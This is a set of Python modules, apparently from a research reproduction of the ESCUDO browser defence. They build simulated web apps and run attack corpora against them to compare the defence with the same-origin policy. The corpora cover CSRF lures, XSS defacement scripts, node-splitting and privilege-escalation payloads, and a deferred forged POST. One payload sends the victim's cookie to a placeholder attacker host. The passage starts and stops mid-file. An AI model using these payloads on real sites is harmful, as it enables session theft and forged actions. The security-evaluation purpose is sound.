        env.browser.click_link(loaded, "csrf-link", as_user=False)

    return action


# -- success predicate ------------------------------------------------------------------------------------


def _session_rode_along(env: AttackEnvironment) -> bool:
    """The paper's criterion: a forged request carried the session cookie."""
    return bool(env.forged_requests_with_session())


# -- corpus -------------------------------------------------------------------------------------------------


def _csrf_attacks_for(app_key: str, *, post_path: str, post_fields: dict[str, str],
                      sensitive_get_path: str) -> list[Attack]:
    """Build the five standard vectors for one application."""
    post_query = post_path + "?" + "&".join(f"{k}={v}" for k, v in post_fields.items())

    def plant(builder, lure_path):
        def _plant(env: AttackEnvironment) -> None:
            env.attacker.set_page(lure_path, builder(env.target_origin))

        return _plant

    return [
        Attack(
            name=f"{app_key}-csrf-img",
            app_key=app_key,
            category="csrf",
            description="img tag on the attacker's page issues a forged GET",
            plant=plant(lambda origin: _lure_with_img(origin, post_query), "/kittens"),
            victim_action=_visit_lure("/kittens"),
            succeeded=_session_rode_along,
        ),
        Attack(
            name=f"{app_key}-csrf-iframe",
            app_key=app_key,
            category="csrf",
            description="iframe on the attacker's page pulls an authenticated page",
            plant=plant(lambda origin: _lure_with_iframe(origin, sensitive_get_path), "/screensavers"),
            victim_action=_visit_lure("/screensavers"),
            succeeded=_session_rode_along,
        ),
        Attack(
            name=f"{app_key}-csrf-xhr",
            app_key=app_key,
            category="csrf",
            description="script on the attacker's page POSTs through XMLHttpRequest",
            plant=plant(lambda origin: _lure_with_xhr(origin, post_query), "/winner"),
            victim_action=_visit_lure("/winner"),
            succeeded=_session_rode_along,
        ),
        Attack(
            name=f"{app_key}-csrf-form",
            app_key=app_key,
            category="csrf",
            description="auto-submitting form on the attacker's page POSTs to the target",
            plant=plant(lambda origin: _lure_with_form(origin, post_path, post_fields), "/prize"),
            victim_action=_visit_lure_and_submit_form("/prize"),
            succeeded=_session_rode_along,
        ),
        Attack(
            name=f"{app_key}-csrf-link",
            app_key=app_key,
            category="csrf",
            description="link on the attacker's page targets a state-changing URL",
            plant=plant(lambda origin: _lure_with_link(origin, post_query), "/discount"),
            victim_action=_visit_lure_and_click("/discount"),
            succeeded=_session_rode_along,
        ),
    ]


def phpbb_csrf_attacks() -> list[Attack]:
    """The five phpBB CSRF attacks (forging a new topic / reading the inbox)."""
    return _csrf_attacks_for(
        "phpbb",
        post_path="/posting",
        post_fields={"mode": "newtopic", "subject": FORGED_TITLE, "message": "forged"},
        sensitive_get_path="/privmsg",
    )


def phpcalendar_csrf_attacks() -> list[Attack]:
    """The five PHP-Calendar CSRF attacks (forging a new event)."""
    return _csrf_attacks_for(
        "phpcalendar",
        post_path="/event/create",
        post_fields={"date": "2010-05-01", "title": FORGED_TITLE, "description": "forged"},
        sensitive_get_path="/",
    )


def all_csrf_attacks() -> list[Attack]:
    """The full CSRF corpus (five per application, as in the paper)."""
    return phpbb_csrf_attacks() + phpcalendar_csrf_attacks()


def forged_state_present(env: AttackEnvironment) -> bool:
    """Whether the forged POST actually changed server state (extra evidence)."""
    state = getattr(env.app, "state", None)
    if state is None:
        return False
    if hasattr(state, "topics"):
        return any(topic.title == FORGED_TITLE for topic in state.topics)
    if hasattr(state, "events"):
        return any(event.title == FORGED_TITLE for event in state.events)
    return False
