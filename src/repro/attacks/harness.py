"""Attack harness: builds victim environments and classifies attack outcomes.

The defence-effectiveness evaluation (Section 6.4) runs the same attacks
against the same applications twice -- once in an ESCUDO browser and once in
a legacy (same-origin-policy) browser -- and reports which attacks succeed.
The harness encapsulates the shared choreography:

1. stand up the target application (with its first-line defences removed,
   exactly as the paper does), the attacker's site and an in-process network;
2. log the victim into the target application so a session cookie exists;
3. *plant* the attack (post the malicious content, or publish the lure page);
4. have the victim browse the relevant page;
5. classify the outcome with the attack's own success predicate.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.browser.browser import Browser, LoadedPage
from repro.core.origin import Origin
from repro.http.network import Network
from repro.webapps.blog import Blog
from repro.webapps.framework import WebApplication
from repro.webapps.phpbb import PhpBB
from repro.webapps.phpcalendar import PhpCalendar

from .attacker import AttackerSite

#: The built-in application keys (kept for backwards compatibility; the live
#: set is :func:`app_keys`, which reflects runtime registrations too).
APP_KEYS = ("phpbb", "phpcalendar", "blog")

#: Factory registry: app key -> callable(**kwargs) -> WebApplication.
#: Scenario-driven applications plug in here via :func:`register_application`
#: instead of editing this module.
_APP_FACTORIES: dict[str, Callable[..., WebApplication]] = {
    "phpbb": PhpBB,
    "phpcalendar": PhpCalendar,
    "blog": Blog,
}


def register_application(key: str, factory: Callable[..., WebApplication], *, replace: bool = False) -> None:
    """Register an application factory under ``key``.

    ``factory`` must accept the harness keyword flags (``escudo_enabled``,
    ``input_validation``, ``csrf_protection``) the way the built-in
    applications do.  Re-registering an existing key requires ``replace=True``
    so accidental shadowing of the paper's case studies fails loudly.
    """
    if not key:
        raise ValueError("application key must be non-empty")
    if key in _APP_FACTORIES and not replace:
        raise ValueError(f"application key {key!r} is already registered (pass replace=True to override)")
    _APP_FACTORIES[key] = factory


def unregister_application(key: str) -> None:
    """Remove a registered application (built-ins included -- use with care)."""
    _APP_FACTORIES.pop(key, None)


def app_keys() -> tuple[str, ...]:
    """Every currently registered application key, registration order."""
    return tuple(_APP_FACTORIES)


#: Attack-corpus registry: callables returning lists of :class:`Attack`.
#: Scenario-driven corpora plug in here via :func:`register_attack_factory`.
_ATTACK_FACTORIES: list[Callable[[], "list[Attack]"]] = []


def register_attack_factory(factory: Callable[[], "list[Attack]"]) -> None:
    """Add a corpus factory whose attacks :func:`registered_attacks` includes."""
    _ATTACK_FACTORIES.append(factory)


def unregister_attack_factory(factory: Callable[[], "list[Attack]"]) -> None:
    """Remove a previously registered corpus factory."""
    if factory in _ATTACK_FACTORIES:
        _ATTACK_FACTORIES.remove(factory)


def registered_attacks() -> "list[Attack]":
    """The full attack corpus: built-in modules plus runtime registrations.

    Imported lazily to avoid a cycle (the corpus modules import this one).
    """
    from .csrf import all_csrf_attacks
    from .node_splitting import all_node_splitting_attacks
    from .privilege_escalation import all_privilege_escalation_attacks
    from .toctou import all_toctou_attacks
    from .xss import all_xss_attacks

    corpus = (
        all_xss_attacks()
        + all_csrf_attacks()
        + all_node_splitting_attacks()
        + all_privilege_escalation_attacks()
        + all_toctou_attacks()
    )
    for factory in _ATTACK_FACTORIES:
        corpus.extend(factory())
    return corpus


@dataclass
class AttackEnvironment:
    """Everything an attack definition gets to inspect and manipulate."""

    model: str
    network: Network
    app: WebApplication
    attacker: AttackerSite
    browser: Browser
    victim: str = "victim"
    victim_session_id: str | None = None
    loaded: LoadedPage | None = None
    extra: dict = field(default_factory=dict)

    @property
    def target_origin(self) -> str:
        """Origin of the application under attack."""
        return self.app.origin

    def victim_cookie_value(self) -> str | None:
        """The victim's session-cookie value (None before login)."""
        return self.victim_session_id

    def forged_requests_with_session(self) -> list:
        """*Cross-site* requests to the target that carried the victim's
        session cookie.

        This is the paper's CSRF success criterion: the browser attached the
        session cookie to a request the victim never intended.  A request is
        forged when it was issued by page content (not the user) **and** the
        issuing page belongs to a different origin than the target -- the
        application's own trusted requests (its XHR pollers, its forms
        submitted on its own pages) are the victim's intended traffic, no
        matter how the session cookie got attached.
        """
        if self.victim_session_id is None:
            return []
        from repro.http.url import Url

        app_origin = Origin.parse(self.app.origin)
        cookie_name = self.app.session_cookie_name
        matches = []
        for record in self.network.requests_to(self.app.origin):
            if record.initiator == "user":
                continue
            page_text = record.request.initiator_page
            if page_text and Url.parse(page_text).origin == app_origin:
                continue  # same-site: the application's own content
            if record.cookies_sent.get(cookie_name) == self.victim_session_id:
                matches.append(record)
        return matches


@dataclass
class AttackResult:
    """Outcome of running one attack under one protection model."""

    attack_name: str
    app_key: str
    category: str
    model: str
    succeeded: bool
    detail: str = ""

    @property
    def neutralized(self) -> bool:
        """True when the attack failed (the defence held)."""
        return not self.succeeded


def make_application(app_key: str, *, escudo_enabled: bool = True, **kwargs) -> WebApplication:
    """Instantiate a target application with the paper's experimental flags.

    Input validation is removed (as in the paper) and secret-token CSRF
    validation is off unless explicitly requested.
    """
    kwargs.setdefault("input_validation", False)
    kwargs.setdefault("csrf_protection", False)
    factory = _APP_FACTORIES.get(app_key)
    if factory is None:
        raise ValueError(f"unknown application key {app_key!r}; expected one of {app_keys()}")
    return factory(escudo_enabled=escudo_enabled, **kwargs)


def build_environment(
    app_key: str,
    model: str,
    *,
    escudo_app: bool = True,
    app_kwargs: dict | None = None,
    caches=None,
    script_engine: str = "vm",
    static_screen=None,
) -> AttackEnvironment:
    """Create a fresh network, application, attacker site and victim browser.

    ``caches`` is an optional
    :class:`~repro.browser.compile_cache.CompileCaches` stack the victim
    browser reuses (the scenario runner shares one per worker); the
    environment itself -- application state, network, cookie jars -- stays
    share-nothing either way.  ``script_engine`` selects the bytecode VM
    (default) or the reference AST walker for the victim browser.
    ``static_screen`` attaches a soundness screen
    (:class:`~repro.analysis.soundness.StaticScreen`) to the victim browser
    so every mediation decision is attributed to its causing script.
    """
    app = make_application(app_key, escudo_enabled=escudo_app, **(app_kwargs or {}))
    attacker = AttackerSite()
    network = Network()
    network.register(app.origin, app)
    network.register(attacker.origin, attacker)
    browser = Browser(
        network,
        model=model,
        caches=caches,
        script_engine=script_engine,
        static_screen=static_screen,
    )
    return AttackEnvironment(model=model, network=network, app=app, attacker=attacker, browser=browser)


def login_user(
    browser: Browser,
    app: WebApplication,
    username: str,
    *,
    login_path: str = "/",
    form_id: str = "login-form",
) -> str | None:
    """Log ``username`` into ``app`` through ``browser``'s login form.

    The shared login choreography for the attack corpus and the scenario
    engine (one definition, so both always exercise the same flow).  Returns
    the new session id, or ``None`` when the login did not take.
    """
    loaded = browser.load(f"{app.origin}{login_path}")
    browser.submit_form(loaded, form_id, {"username": username}, as_user=True)
    sessions = app.sessions.sessions_for(username)
    return sessions[-1].session_id if sessions else None


def login_victim(env: AttackEnvironment, *, login_path: str = "/", form_id: str = "login-form") -> None:
    """Log the victim into the target application in their own browser."""
    env.victim_session_id = login_user(
        env.browser, env.app, env.victim, login_path=login_path, form_id=form_id
    )


def visit(env: AttackEnvironment, path: str) -> LoadedPage:
    """Have the victim browse a path on the target application."""
    env.loaded = env.browser.load(f"{env.app.origin}{path}")
    return env.loaded


def visit_attacker(env: AttackEnvironment, path: str) -> LoadedPage:
    """Have the victim browse a page on the attacker's site."""
    env.loaded = env.browser.load(f"{env.attacker.origin}{path}")
    return env.loaded


# -- generic attack runner -----------------------------------------------------------------------


@dataclass
class Attack:
    """A declarative attack description shared by the XSS and CSRF corpora.

    ``plant`` injects the malicious content (into the application state or
    onto the attacker's site), ``victim_action`` drives the victim's browser
    (visiting a page, optionally interacting with it), and ``succeeded``
    inspects the environment afterwards.
    """

    name: str
    app_key: str
    category: str  # "xss" | "csrf" | "node-splitting" | "privilege-escalation"
    description: str
    plant: Callable[[AttackEnvironment], None]
    victim_action: Callable[[AttackEnvironment], None]
    succeeded: Callable[[AttackEnvironment], bool]
    requires_login: bool = True

    def run(self, model: str, *, escudo_app: bool = True, script_engine: str = "vm") -> AttackResult:
        """Execute the attack end-to-end under ``model`` and classify it."""
        env = build_environment(self.app_key, model, escudo_app=escudo_app, script_engine=script_engine)
        if self.requires_login:
            login_victim(env)
        return self.execute_in(env)

    def execute_in(self, env: AttackEnvironment) -> AttackResult:
        """Run plant + victim action against a pre-built environment.

        The scenario engine uses this entry point: the environment may already
        have hosted a whole multi-user session (other actors posting and
        browsing) before the attack is injected into it.  The caller is
        responsible for any required login choreography.
        """
        self.plant(env)
        self.victim_action(env)
        return self.classify(env)

    def classify(self, env: AttackEnvironment) -> AttackResult:
        """Evaluate the success predicate and wrap the outcome."""
        return AttackResult(
            attack_name=self.name,
            app_key=self.app_key,
            category=self.category,
            model=env.model,
            succeeded=bool(self.succeeded(env)),
            detail=self.description,
        )


def run_attacks(
    attacks: list[Attack], model: str, *, escudo_app: bool = True, script_engine: str = "vm"
) -> list[AttackResult]:
    """Run a list of attacks under one protection model."""
    return [attack.run(model, escudo_app=escudo_app, script_engine=script_engine) for attack in attacks]


def defense_effectiveness_matrix(
    attacks: list[Attack], *, script_engine: str = "vm"
) -> dict[str, list[AttackResult]]:
    """Run every attack under both models (the Section 6.4 experiment)."""
    return {
        "escudo": run_attacks(attacks, "escudo", script_engine=script_engine),
        "sop": run_attacks(attacks, "sop", script_engine=script_engine),
    }


def summarize(results: list[AttackResult]) -> dict[str, int]:
    """Count successes and neutralisations."""
    return {
        "total": len(results),
        "succeeded": sum(1 for r in results if r.succeeded),
        "neutralized": sum(1 for r in results if r.neutralized),
    }


# -- the README quick demo ------------------------------------------------------------------------


def quick_blog_demo() -> str:
    """Inject a malicious comment into the blog under both models and report.

    Returns a short human-readable report used by ``repro.quick_demo`` and
    ``examples/quickstart.py``.
    """
    payload = (
        "<script>"
        "var post = document.getElementById('post-body');"
        "if (post != null) { post.innerHTML = 'DEFACED by a comment'; }"
        "var banner = document.getElementById('blog-banner');"
        "if (banner != null) { banner.textContent = 'Owned!'; }"
        "</script>I totally agree with this post!"
    )
    lines = []
    for model in ("escudo", "sop"):
        env = build_environment("blog", model)
        env.app.add_comment(1, "mallory", payload)
        loaded = visit(env, "/post?id=1")
        post_body = loaded.page.document.get_element_by_id("post-body")
        banner = loaded.page.document.get_element_by_id("blog-banner")
        defaced = "DEFACED" in (post_body.text_content if post_body else "")
        banner_owned = "Owned" in (banner.text_content if banner else "")
        verdict = "attack SUCCEEDED" if (defaced or banner_owned) else "attack NEUTRALIZED"
        lines.append(
            f"[{model:>6}] malicious comment vs. blog post: {verdict} "
            f"(denied accesses: {loaded.page.monitor.stats.denied})"
        )
    return "\n".join(lines)
