"""Attack harness: builds victim environments and classifies attack outcomes.

The defence-effectiveness evaluation (Section 6.4) runs the same attacks
against the same applications twice -- once in an ESCUDO browser and once in
a legacy (same-origin-policy) browser -- and reports which attacks succeed.
The harness encapsulates the shared choreography:

1. stand up the target application (with its first-line defences removed,
   exactly as the paper does), the attacker's site and an in-process network;
2. log the victim into the target application so a session cookie exists;
3. *plant* the attack (post the malicious content, or publish the lure page);
4. have the victim browse the relevant page;
5. classify the outcome with the attack's own success predicate.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.browser.browser import Browser, LoadedPage
from repro.http.network import Network
from repro.webapps.blog import Blog
from repro.webapps.framework import WebApplication
from repro.webapps.phpbb import PhpBB
from repro.webapps.phpcalendar import PhpCalendar

from .attacker import AttackerSite

#: Application keys accepted by the harness.
APP_KEYS = ("phpbb", "phpcalendar", "blog")


@dataclass
class AttackEnvironment:
    """Everything an attack definition gets to inspect and manipulate."""

    model: str
    network: Network
    app: WebApplication
    attacker: AttackerSite
    browser: Browser
    victim: str = "victim"
    victim_session_id: str | None = None
    loaded: LoadedPage | None = None
    extra: dict = field(default_factory=dict)

    @property
    def target_origin(self) -> str:
        """Origin of the application under attack."""
        return self.app.origin

    def victim_cookie_value(self) -> str | None:
        """The victim's session-cookie value (None before login)."""
        return self.victim_session_id

    def forged_requests_with_session(self) -> list:
        """Requests to the target initiated by attacker-controlled content
        that carried the victim's session cookie.

        This is the paper's CSRF success criterion: the browser attached the
        session cookie to a request the victim never intended.
        """
        if self.victim_session_id is None:
            return []
        cookie_name = self.app.session_cookie_name
        matches = []
        for record in self.network.requests_to(self.app.origin):
            if record.initiator == "user":
                continue
            if record.cookies_sent.get(cookie_name) == self.victim_session_id:
                matches.append(record)
        return matches


@dataclass
class AttackResult:
    """Outcome of running one attack under one protection model."""

    attack_name: str
    app_key: str
    category: str
    model: str
    succeeded: bool
    detail: str = ""

    @property
    def neutralized(self) -> bool:
        """True when the attack failed (the defence held)."""
        return not self.succeeded


def make_application(app_key: str, *, escudo_enabled: bool = True, **kwargs) -> WebApplication:
    """Instantiate a target application with the paper's experimental flags.

    Input validation is removed (as in the paper) and secret-token CSRF
    validation is off unless explicitly requested.
    """
    kwargs.setdefault("input_validation", False)
    kwargs.setdefault("csrf_protection", False)
    if app_key == "phpbb":
        return PhpBB(escudo_enabled=escudo_enabled, **kwargs)
    if app_key == "phpcalendar":
        return PhpCalendar(escudo_enabled=escudo_enabled, **kwargs)
    if app_key == "blog":
        return Blog(escudo_enabled=escudo_enabled, **kwargs)
    raise ValueError(f"unknown application key {app_key!r}; expected one of {APP_KEYS}")


def build_environment(
    app_key: str,
    model: str,
    *,
    escudo_app: bool = True,
    app_kwargs: dict | None = None,
) -> AttackEnvironment:
    """Create a fresh network, application, attacker site and victim browser."""
    app = make_application(app_key, escudo_enabled=escudo_app, **(app_kwargs or {}))
    attacker = AttackerSite()
    network = Network()
    network.register(app.origin, app)
    network.register(attacker.origin, attacker)
    browser = Browser(network, model=model)
    return AttackEnvironment(model=model, network=network, app=app, attacker=attacker, browser=browser)


def login_victim(env: AttackEnvironment, *, login_path: str = "/", form_id: str = "login-form") -> None:
    """Log the victim into the target application in their own browser."""
    loaded = env.browser.load(f"{env.app.origin}{login_path}")
    env.browser.submit_form(loaded, form_id, {"username": env.victim}, as_user=True)
    sessions = env.app.sessions.sessions_for(env.victim)
    env.victim_session_id = sessions[-1].session_id if sessions else None


def visit(env: AttackEnvironment, path: str) -> LoadedPage:
    """Have the victim browse a path on the target application."""
    env.loaded = env.browser.load(f"{env.app.origin}{path}")
    return env.loaded


def visit_attacker(env: AttackEnvironment, path: str) -> LoadedPage:
    """Have the victim browse a page on the attacker's site."""
    env.loaded = env.browser.load(f"{env.attacker.origin}{path}")
    return env.loaded


# -- generic attack runner -----------------------------------------------------------------------


@dataclass
class Attack:
    """A declarative attack description shared by the XSS and CSRF corpora.

    ``plant`` injects the malicious content (into the application state or
    onto the attacker's site), ``victim_action`` drives the victim's browser
    (visiting a page, optionally interacting with it), and ``succeeded``
    inspects the environment afterwards.
    """

    name: str
    app_key: str
    category: str  # "xss" | "csrf" | "node-splitting" | "privilege-escalation"
    description: str
    plant: Callable[[AttackEnvironment], None]
    victim_action: Callable[[AttackEnvironment], None]
    succeeded: Callable[[AttackEnvironment], bool]
    requires_login: bool = True

    def run(self, model: str, *, escudo_app: bool = True) -> AttackResult:
        """Execute the attack end-to-end under ``model`` and classify it."""
        env = build_environment(self.app_key, model, escudo_app=escudo_app)
        if self.requires_login:
            login_victim(env)
        self.plant(env)
        self.victim_action(env)
        success = bool(self.succeeded(env))
        return AttackResult(
            attack_name=self.name,
            app_key=self.app_key,
            category=self.category,
            model=model,
            succeeded=success,
            detail=self.description,
        )


def run_attacks(attacks: list[Attack], model: str, *, escudo_app: bool = True) -> list[AttackResult]:
    """Run a list of attacks under one protection model."""
    return [attack.run(model, escudo_app=escudo_app) for attack in attacks]


def defense_effectiveness_matrix(attacks: list[Attack]) -> dict[str, list[AttackResult]]:
    """Run every attack under both models (the Section 6.4 experiment)."""
    return {
        "escudo": run_attacks(attacks, "escudo"),
        "sop": run_attacks(attacks, "sop"),
    }


def summarize(results: list[AttackResult]) -> dict[str, int]:
    """Count successes and neutralisations."""
    return {
        "total": len(results),
        "succeeded": sum(1 for r in results if r.succeeded),
        "neutralized": sum(1 for r in results if r.neutralized),
    }


# -- the README quick demo ------------------------------------------------------------------------


def quick_blog_demo() -> str:
    """Inject a malicious comment into the blog under both models and report.

    Returns a short human-readable report used by ``repro.quick_demo`` and
    ``examples/quickstart.py``.
    """
    payload = (
        "<script>"
        "var post = document.getElementById('post-body');"
        "if (post != null) { post.innerHTML = 'DEFACED by a comment'; }"
        "var banner = document.getElementById('blog-banner');"
        "if (banner != null) { banner.textContent = 'Owned!'; }"
        "</script>I totally agree with this post!"
    )
    lines = []
    for model in ("escudo", "sop"):
        env = build_environment("blog", model)
        env.app.add_comment(1, "mallory", payload)
        loaded = visit(env, "/post?id=1")
        post_body = loaded.page.document.get_element_by_id("post-body")
        banner = loaded.page.document.get_element_by_id("blog-banner")
        defaced = "DEFACED" in (post_body.text_content if post_body else "")
        banner_owned = "Owned" in (banner.text_content if banner else "")
        verdict = "attack SUCCEEDED" if (defaced or banner_owned) else "attack NEUTRALIZED"
        lines.append(
            f"[{model:>6}] malicious comment vs. blog post: {verdict} "
            f"(denied accesses: {loaded.page.monitor.stats.denied})"
        )
    return "\n".join(lines)
