"""Node-splitting attacks against the AC-tag configuration.

Section 5 of the paper: an attacker whose text lands inside a low-privilege
AC scope injects a premature ``</div>`` terminator and then opens a *new*
``div`` claiming a privileged ring, hoping the content that follows (their
script) escapes the restrictions of the scope the developer put it in.
ESCUDO defeats this with markup randomisation -- terminators whose nonce
does not match the enclosing AC tag are ignored -- and, as a second layer,
the scoping rule clamps any nested ring claim to the enclosing scope's ring.

The corpus here targets the phpBB reply scope; the same payloads are reused
by the ablation benchmark with markup randomisation disabled to show that
the nonce check is the load-bearing defence against the *markup* variant of
the attack.
"""

from __future__ import annotations

from .harness import Attack, AttackEnvironment, visit


def node_splitting_payload(guessed_nonce: str = "0000000000000000", depth: int = 3) -> str:
    """User content that tries to break out of its ring-3 message scope.

    phpBB wraps each post in ``<div ring=3 ...><div class="post"><div
    class="post-body">…`` -- three nested ``div`` elements, of which only the
    outermost is an AC tag.  The page structure is public, so the attacker
    injects ``depth`` terminators to climb all the way out of the message
    scope (the inner wrappers carry no nonce and always close; the AC tag is
    the one markup randomisation protects).  The attacker cannot know the
    real per-response nonce, so they guess one on the last terminator; they
    then open a fresh ``div`` claiming ring 0 and put their script inside it.
    """
    terminators = "</div>" * max(depth - 1, 0) + f'</div nonce="{guessed_nonce}">'
    return (
        "totally normal message"
        + terminators
        + '<div ring="0" r="0" w="0" x="0">'
        "<script>"
        "var header = document.getElementById('whoami');"
        "if (header != null) { header.textContent = 'escaped the sandbox'; }"
        "var loot = document.cookie;"
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', 'http://evil.example.net/collect?c=' + loot);"
        "xhr.send();"
        "</script>"
        "</div>"
    )


def _chrome_defaced(env: AttackEnvironment) -> bool:
    if env.loaded is None:
        return False
    element = env.loaded.page.document.get_element_by_id("whoami")
    return element is not None and "escaped the sandbox" in element.text_content


def _escaped_or_leaked(env: AttackEnvironment) -> bool:
    session = env.victim_cookie_value()
    leaked = bool(session) and env.attacker.received(session)
    return _chrome_defaced(env) or leaked


def phpbb_node_splitting_attack() -> Attack:
    """Node-splitting attempt via a forum reply."""

    def plant(env: AttackEnvironment) -> None:
        env.app.add_reply(1, "mallory", node_splitting_payload())

    return Attack(
        name="phpbb-node-splitting",
        app_key="phpbb",
        category="node-splitting",
        description="reply injects </div> + a ring-0 div to escape its message scope",
        plant=plant,
        victim_action=lambda env: visit(env, "/viewtopic?t=1"),
        succeeded=_escaped_or_leaked,
    )


def injected_script_ring(env: AttackEnvironment) -> int | None:
    """Ring the injected script actually ended up in (diagnostic helper).

    Returns ``None`` when the script element cannot be found.  Tests use
    this to assert that, with nonces active, the injected ring-0 claim was
    confined to ring 3.
    """
    if env.loaded is None:
        return None
    for script in env.loaded.page.document.scripts():
        if "escaped the sandbox" in script.text_content:
            context = script.security_context
            return context.ring.level if context is not None else None
    return None


def all_node_splitting_attacks() -> list[Attack]:
    """The node-splitting corpus."""
    return [phpbb_node_splitting_attack()]
