"""Privilege-escalation attempts through the DOM API.

Section 5 of the paper enumerates two runtime escalation strategies and the
protections against them:

1. *A principal increasing its own privilege* -- calling
   ``setAttribute('ring', '0')`` (or touching the ACL / nonce attributes) on
   an AC tag.  The configuration is never exposed to scripts, so these
   attempts are categorically refused (tamper protection).
2. *A principal creating a new principal with elevated privilege* -- using
   ``createElement`` / ``innerHTML`` to mint content that claims a more
   privileged ring.  The scoping rule bounds dynamically created content by
   both the insertion point's ring and the creating principal's ring.

The attacks below run as ring-3 scripts hidden in phpBB replies and try both
strategies; success means the follow-up action (defacing ring-1 chrome)
worked, which can only happen if the escalation itself worked.
"""

from __future__ import annotations

from .harness import Attack, AttackEnvironment, visit


def payload_remap_own_scope() -> str:
    """Try to relabel a message's AC tag to ring 0, then act on ring 1.

    The attacker's reply lands on the first topic, whose first post
    (``post-scope-1``) is always present -- the page structure is public, so
    the script targets that scope directly.
    """
    return (
        "<script>"
        "var scope = document.getElementById('post-scope-1');"
        "if (scope != null) { scope.setAttribute('ring', '0'); }"
        "var header = document.getElementById('whoami');"
        "if (header != null) { header.textContent = 'relabelled and escalated'; }"
        "</script>great thread."
    )


def payload_create_privileged_child() -> str:
    """Try to append a new ring-0 scope (with a script) via innerHTML."""
    return (
        "<script>"
        "var here = document.getElementById('post-body-1');"
        "if (here != null) {"
        "  here.innerHTML = '<div ring=\"0\" r=\"0\" w=\"0\" x=\"0\" id=\"fake-chrome\">elevated?</div>';"
        "}"
        "var header = document.getElementById('whoami');"
        "if (header != null) { header.textContent = 'minted a privileged child'; }"
        "</script>interesting."
    )


def _chrome_changed(env: AttackEnvironment, needle: str) -> bool:
    if env.loaded is None:
        return False
    element = env.loaded.page.document.get_element_by_id("whoami")
    return element is not None and needle in element.text_content


def remap_attack() -> Attack:
    """Attempt strategy 1: rewrite the ``ring`` attribute of the own scope."""

    def plant(env: AttackEnvironment) -> None:
        env.app.add_reply(1, "mallory", payload_remap_own_scope())

    return Attack(
        name="phpbb-privilege-remap-own-ring",
        app_key="phpbb",
        category="privilege-escalation",
        description="ring-3 script calls setAttribute('ring', '0') on its own AC tag",
        plant=plant,
        victim_action=lambda env: visit(env, "/viewtopic?t=1"),
        succeeded=lambda env: _chrome_changed(env, "relabelled and escalated"),
    )


def mint_privileged_child_attack() -> Attack:
    """Attempt strategy 2: create a new, more privileged principal."""

    def plant(env: AttackEnvironment) -> None:
        env.app.add_reply(1, "mallory", payload_create_privileged_child())

    return Attack(
        name="phpbb-privilege-mint-child",
        app_key="phpbb",
        category="privilege-escalation",
        description="ring-3 script writes a ring-0 div through innerHTML",
        plant=plant,
        victim_action=lambda env: visit(env, "/viewtopic?t=1"),
        succeeded=lambda env: _chrome_changed(env, "minted a privileged child"),
    )


def fake_chrome_ring(env: AttackEnvironment) -> int | None:
    """Ring of the dynamically injected ``fake-chrome`` div, if it exists.

    Diagnostic helper for tests: when the mint-child attack runs against the
    baseline browser, the div exists; its ring (under ESCUDO relabelling
    rules) must never be more privileged than the creator's ring.
    """
    if env.loaded is None:
        return None
    element = env.loaded.page.document.get_element_by_id("fake-chrome")
    if element is None or element.security_context is None:
        return None
    return element.security_context.ring.level


def tamper_denials(env: AttackEnvironment) -> int:
    """Number of tamper-protection denials the page's monitor recorded."""
    if env.loaded is None:
        return 0
    from repro.core.decision import Rule

    return sum(
        1
        for decision in env.loaded.page.monitor.audit.denials()
        if decision.denying_rule is Rule.TAMPER
    )


def all_privilege_escalation_attacks() -> list[Attack]:
    """The privilege-escalation corpus."""
    return [remap_attack(), mint_privileged_child_attack()]
