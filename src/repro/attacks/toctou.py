"""Deferred (TOCTOU) attacks: a payload races a policy change in flight.

These attacks only exist because the runtime has a real event loop: the
injected script defers its malicious work with ``setTimeout``, so the work
is still *queued* when the page finishes loading.  The choreography then
changes the page's API policy while the XHR completion sits in the queue --
the classic time-of-check/time-of-use window.

The rule the corpus pins down: mediation happens **at completion time**.
A policy that was permissive when ``send()`` ran but restrictive when the
completion task drains must deny the request (and record the denial in the
page's audit log, so the block is attributable).  A runtime that checked at
send time would let the forged request through under ESCUDO and flip the
golden defense matrix.

Under the legacy models the deferred request goes through regardless (the
same-origin policy ignores rings, and the legacy browser attaches the
victim's cookies unconditionally), so the differential oracle's
blocked-under-escudo / succeeds-under-legacy invariant applies unchanged.
"""

from __future__ import annotations

from repro.core.config import ResourcePolicy

from .harness import Attack, AttackEnvironment, visit

#: Virtual delay of the deferred payload: long enough to survive the page
#: load's time-zero settle, short enough that one advance reaches it.
DEFER_MS = 5


def payload_deferred_post(action_query: str, delay_ms: int = DEFER_MS) -> str:
    """A reply that forges an authenticated POST *after* the page loads."""
    return (
        "<script>"
        "setTimeout(function () {"
        "  var xhr = new XMLHttpRequest();"
        f"  xhr.open('POST', '{action_query}', true);"
        "  xhr.send();"
        f"}}, {delay_ms});"
        "</script>see you all there!"
    )


def _set_xhr_policy(env: AttackEnvironment, policy: ResourcePolicy) -> None:
    """Relabel the loaded page's XMLHttpRequest API object mid-session.

    Stands in for a server-pushed ``X-Escudo-Api-Policy`` update landing
    while deferred work is queued; :meth:`Page.set_api_policy` bumps the
    decision-cache generation so no verdict predating the privilege change
    survives it.
    """
    if env.loaded is None:
        return
    env.loaded.page.set_api_policy("XMLHttpRequest", policy)


def _toctou_victim_action(env: AttackEnvironment) -> None:
    """The TOCTOU choreography, driven on the victim's virtual clock.

    1. The victim views the poisoned topic; the payload's timer is queued.
    2. The server relabels XHR to permit ring 3 (the *check*-time policy).
    3. The clock advances to the timer: ``send()`` runs while the policy is
       permissive, queueing the completion task.
    4. The server revokes the grant while the completion is in flight.
    5. The loop drains: the completion is mediated against the *use*-time
       policy -- denied under ESCUDO, delivered under the legacy models.
    """
    loaded = visit(env, "/viewtopic?t=1")
    _set_xhr_policy(env, ResourcePolicy.uniform(3))
    loaded.page.event_loop.advance(DEFER_MS)  # the deferred send() fires here
    _set_xhr_policy(env, ResourcePolicy.ring_zero())  # the swap lands in flight
    loaded.page.event_loop.drain()  # completion: decided against ring 0


def _forged_post_exists(env: AttackEnvironment) -> bool:
    return any(topic.title == "PWNED" for topic in env.app.state.topics)


def phpbb_toctou_attacks() -> list[Attack]:
    """The phpBB deferred-XHR TOCTOU attack."""
    return [
        Attack(
            name="phpbb-xss-toctou-deferred-post",
            app_key="phpbb",
            category="xss",
            description=(
                "reply hides a deferred script whose forged POST races a policy "
                "revocation; mediation at completion time must block it"
            ),
            plant=lambda env: env.app.add_reply(
                1,
                "mallory",
                payload_deferred_post(
                    "/posting?mode=newtopic&subject=PWNED&message=forged+after+load"
                ),
            ),
